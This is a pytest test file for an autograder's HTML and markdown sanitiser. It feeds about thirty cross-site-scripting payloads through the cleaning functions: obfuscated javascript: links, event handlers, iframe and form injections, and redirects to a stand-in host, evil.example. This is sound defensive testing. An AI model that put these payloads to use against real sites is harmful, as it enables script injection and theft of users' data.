"""What students write stays readable and becomes nothing that acts, in formgrader and in feedback."""

from __future__ import annotations

import pytest
from bs4 import BeautifulSoup
from nbconvert.filters.markdown import markdown2html
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from autograder.classroom.sanitise import clean_html, clean_markdown, clean_notebook, clean_outputs, harmless

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "unclosed": "<img src=x onerror=alert(1) //",
    "svg": "<svg/onload=alert(1)>",
    "comment": "<!--><script>alert(1)</script>-->",
    "link": "[x](javascript:alert(1))",
    "link-case": "[x](JaVaScRiPt:alert(1))",
    "link-escape": "[x](java\\script\\:alert(1))",
    "link-colon": "[x](javascript\\:alert(1))",
    "link-tab": "[x](<java\tscript:alert(1)>)",
    "link-entity": "[x](&#106;avascript:alert(1))",
    "link-entity-twice": "[x](&amp;#106;avascript:alert(1))",
    "link-entity-thrice": "[x](&amp;amp;#106;avascript:alert(1))",
    "link-entity-bare": "[x](&#106avascript:alert(1))",
    "link-newline": "[x](<java&NewLine;script:alert(1)>)",
    "link-named": "[x](javascript&colon;alert(1))",
    "link-reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)>",
    "autolink-http": '<https://a.b/"onmouseover=alert(1)//>',
    "image": '![x](x"onerror="alert(1))',
    "fence": '```x"onload=alert(1)\n<script>alert(1)</script>\n```',
    "math": "$x<script>alert(1)</script>$",
    "block-math": "$$\n</span><script>alert(1)</script>\n$$",
    "environment": "\\begin{align}<img src=x onerror=alert(1)>\\end{align}",
    "href": "$\\href{javascript:alert(1)}{x}$",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "form": "<form action=https://evil.example><input name=p></form>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "style": "<style>@import url(https://evil.example)</style>",
}


def _active(page: str) -> list[str]:
    """What a browser would act upon: tags, handlers and links."""
    found = []
    for tag in BeautifulSoup(page, "html.parser").find_all(True):
        if tag.name in (
            "script",
            "svg",
            "iframe",
            "form",
            "input",
            "meta",
            "style",
            "object",
            "embed",
            "base",
        ):
            found.append(tag.name)
        for name, value in tag.attrs.items():
            link = "".join(str(value).split()).lower()
            if name.startswith("on") or (
                name in ("href", "src") and link.startswith(("javascript", "vbscript"))
            ):
                found.append(f"{name}={value}")
    return found


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_when_formgrader_renders_cleaned_markdown_nothing_is_active(attack: str) -> None:
    assert _active(markdown2html(clean_markdown(attack))) == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_when_feedback_renders_raw_markdown_nothing_is_active(attack: str) -> None:
    assert _active(clean_html(markdown2html(attack))) == []


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_when_cleaned_twice_nothing_more_changes(attack: str) -> None:
    assert clean_markdown(clean_markdown(attack)) == clean_markdown(attack)


def test_when_the_attacks_are_not_cleaned_the_test_sees_them() -> None:
    seen = [name for name, attack in ATTACKS.items() if _active(markdown2html(attack))]
    assert {"script", "handler", "link", "link-case", "frame", "form", "style"} <= set(seen)


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, *stress*, `x < y` and a < b.",
        "| a | b |\n|---|---:|\n| 1 | 2 |",
        "$f_t \\odot c_{t-1}$ where $0 < f_t < 1$ & so on",
        "[paper](https://example.org/a?b=1&c=2)",
        "<https://example.org/a>",
        "> quoted\n\n1. one\n2. two",
    ],
)
def test_when_markdown_is_ordinary_it_stays_as_it_was(text: str) -> None:
    assert clean_markdown(text) == text


def test_when_html_is_ordinary_cleaning_keeps_tables_code_and_pictures() -> None:
    page = '<table><tr><td style="text-align: right">1</td></tr></table><pre><code class="x">a</code></pre>'
    picture = '<img alt="p" src="data:image/png;base64,AAAA">'
    assert 'style="text-align: right;"' in clean_html(page)
    assert clean_html(picture) == picture
    assert 'src="' not in clean_html('<img src="https://evil.example/pixel.png">')


def test_when_outputs_are_cleaned_only_text_and_honest_pictures_stay() -> None:
    outputs = [
        new_output("display_data", data={"text/html": "<b>", "text/plain": "one"}, metadata={"w": '"><x'}),
        new_output("display_data", data={"image/png": 'AA"><script>alert(1)</script>'}),
        new_output("display_data", data={"image/png": "iVBORw0KGgo=\n"}),
        new_output("display_data", data={"application/javascript": "alert(1)"}),
        new_output("stream", name="stdout", text="hello"),
        {"output_type": "stream", "name": 'x"><script>', "text": ["a", "b"]},
        {"output_type": "update_display_data", "data": {"text/html": "x"}},
    ]  # fmt: skip
    cleaned = clean_outputs(outputs)
    assert [dict(one.get("data", {})) for one in cleaned] == [
        {"text/plain": "one"},
        {"image/png": "iVBORw0KGgo=\n"},
        {},
        {},
    ]
    assert cleaned[0].metadata == {}
    assert [one.text for one in cleaned[2:]] == ["hello", "ab"] and cleaned[3].name == "stdout"


def test_when_the_labs_own_cells_hold_html_they_are_left_alone() -> None:
    locked = {
        "grade": False,
        "solution": False,
        "locked": True,
        "task": False,
        "grade_id": "t",
        "schema_version": 3,
    }
    notebook = new_notebook(
        cells=[new_markdown_cell("<details>hint</details>", metadata={"nbgrader": locked})]
    )
    assert clean_notebook(notebook).cells[0].source == "<details>hint</details>"


def test_when_a_notebook_is_made_harmless_no_strange_fact_is_left_for_a_template() -> None:
    cells = [
        new_code_cell(
            "1", metadata={"nbgrader": {"grade_id": '"><script>', "grade": True}, "tags": ['"><x']}
        ),
        new_raw_cell("<script>alert(1)</script>", metadata={"raw_mimetype": "text/html"}),
    ]
    notebook = new_notebook(cells=cells, metadata={"title": "<script>", "widgets": {}})
    notebook.cells[0].update(id='"><script>', execution_count="<script>")
    harmless(notebook)
    assert "<script>" not in str(notebook)
    assert notebook.cells[0].metadata == {} and notebook.cells[0].execution_count is None


def test_when_markdown_is_full_of_links_that_never_end_it_is_cleaned_in_no_time() -> None:
    # Read again from each beginning to the end, it would take minutes.
    assert clean_markdown("<https://" * 60_000) == "&lt;https://" * 60_000
    assert clean_markdown("<https://a.b/?c&d> and <https://a.b>") == "<https://a.b/?c&d> and <https://a.b>"
